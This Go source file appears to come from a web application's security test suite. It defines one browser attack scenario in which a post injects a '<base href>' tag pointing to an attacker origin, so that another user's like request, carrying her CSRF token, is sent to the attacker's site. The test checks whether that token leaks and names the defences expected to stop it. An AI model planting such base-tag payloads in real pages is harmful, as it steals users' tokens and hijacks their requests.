package attack

import "context"

func baseThatMovesThePage() Attack {
	return Attack{
		Name: "base-that-moves-the-page", Group: "browser", Browser: true,
		Title:  "Bob's post moves what the page's links are relative to, and Alice's like goes, with her token, to his site",
		Expect: []string{"transport/csp", "input/clean", "input/render"},
		Run: func(ctx context.Context, s *Scene) (bool, error) {
			evil, err := s.elsewhere(ctx)
			if err != nil {
				return false, err
			}
			return s.written(ctx, `<base href="`+evil.Origin+`/">Like if you agree`, func(alice *seat) (bool, error) {
				token := says[string](alice, `document.querySelector("article [name=_token]").value`)
				return token != "" && alice.clicks(".post-foot button") && alice.within(aWhile, func() bool { return evil.was("POST /posts/", token) }), nil
			})
		},
	}
}
